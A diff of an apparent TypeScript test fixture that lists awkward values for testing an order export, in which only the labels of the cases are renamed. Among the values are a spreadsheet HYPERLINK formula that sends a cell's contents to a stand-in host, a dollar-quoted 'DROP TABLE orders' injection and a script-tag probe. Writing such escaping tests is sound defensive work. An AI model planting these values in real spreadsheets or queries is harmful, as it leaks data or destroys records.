@@ -27,9 +27,9 @@ const FORMULA_LIKE: readonly AwkwardOrder[] = [
   name('full-width +', '＋1'),
   name('full-width -', '－1'),
   name('full-width @', '＠SUM(A1:A9)'),
-  name('formula that calls out', '=HYPERLINK("http://example.com?x="&A1,"click")'),
-  name('formula after a space is none', ' =1+1'),
-  name('formula after a quote is none', "'=1+1"),
+  name('formula that sends data out', '=HYPERLINK("http://example.com?x="&A1,"click")'),
+  name('formula after a space', ' =1+1'),
+  name('no formula: starts with an apostrophe', "'=1+1"),
   note('only a minus', '-'),
 ];
 
@@ -42,7 +42,7 @@ const DELIMITERS: readonly AwkwardOrder[] = [
   name('tabs', 'a\tb\tc'),
   name('line feeds', 'first line\nsecond line\n'),
   name('carriage returns', 'first line\rsecond line'),
-  name('both', 'first line\r\nsecond line\r\n'),
+  name('both line ends', 'first line\r\nsecond line\r\n'),
   name('backslashes', 'C:\\temp\\new\\t'),
   name('a backslash at the end', 'ends with \\'),
   name("COPY's null marker", '\\N'),
@@ -51,7 +51,7 @@ const DELIMITERS: readonly AwkwardOrder[] = [
   name('single quotes', "O'Brien ''"),
   name('a dollar quote', '$$; DROP TABLE orders; --'),
   name('markup', '<b>&amp;</b><script>alert(1)</script>'),
-  name('the text null', 'NULL'),
+  name('the text NULL', 'NULL'),
 ];
 
 /** Text in which a character is not one byte, one code unit or one column wide. */
@@ -60,7 +60,7 @@ const UNICODE: readonly AwkwardOrder[] = [
   name('right to left', 'שלום עולם مرحبا'),
   name('a combining accent', 'Zoe\u0308 Cafe\u0301'),
   name('CJK', '山田太郎 王小明 김철수'),
-  name('a character beyond the basic plane', '𠮷野家 𝒜'),
+  name('a character outside the basic plane', '𠮷野家 𝒜'),
   name('a byte order mark', '\ufeffBOM'),
   name('zero width and no-break spaces', 'a\u200bb\u00a0c\u2028d\u2029e'),
   name('direction overrides', 'abc\u202edef\u202c'),
@@ -70,10 +70,10 @@ const UNICODE: readonly AwkwardOrder[] = [
 ];
 
 const VALUES: readonly AwkwardOrder[] = [
-  { what: 'empty text beside no text', customerName: '', note: null },
-  { what: 'no text beside empty text', customerName: 'Ana Pérez', note: '' },
+  { what: 'empty text next to null', customerName: '', note: null },
+  { what: 'empty text in a nullable column', customerName: 'Ana Pérez', note: '' },
   name('only spaces', '   '),
-  name('spaces around', '  padded  '),
+  name('surrounding spaces', '  padded  '),
   name('leading zeros', '00123'),
   name('more digits than a double holds', '12345678901234567890'),
   name('looks like a number', '1e5'),
@@ -82,11 +82,11 @@ const VALUES: readonly AwkwardOrder[] = [
   note('longer than a spreadsheet cell', 'x'.repeat(40_000)),
   { ...note('the largest refund', 'refund'), total: '-9999999999.99' },
   { ...note('the largest total', 'whale'), total: '9999999999.99' },
-  { ...note('nothing', 'free'), total: '0.00' },
+  { ...note('zero', 'free'), total: '0.00' },
   { ...note('microseconds', null), updatedAt: '2026-03-29 01:30:00.123456+00' },
-  { ...note('before spreadsheets', null), updatedAt: '1899-12-31 23:59:59+00' },
-  { ...note('the last year of four digits', null), updatedAt: '9999-12-31 23:59:59+00' },
-  { ...note('before our era', null), updatedAt: '0044-03-15 12:00:00+00 BC' },
+  { ...note('before the dates of spreadsheets', null), updatedAt: '1899-12-31 23:59:59+00' },
+  { ...note('the last four-digit year', null), updatedAt: '9999-12-31 23:59:59+00' },
+  { ...note('a year BC', null), updatedAt: '0044-03-15 12:00:00+00 BC' },
   { ...note('never', null), updatedAt: 'infinity' },
 ];
 
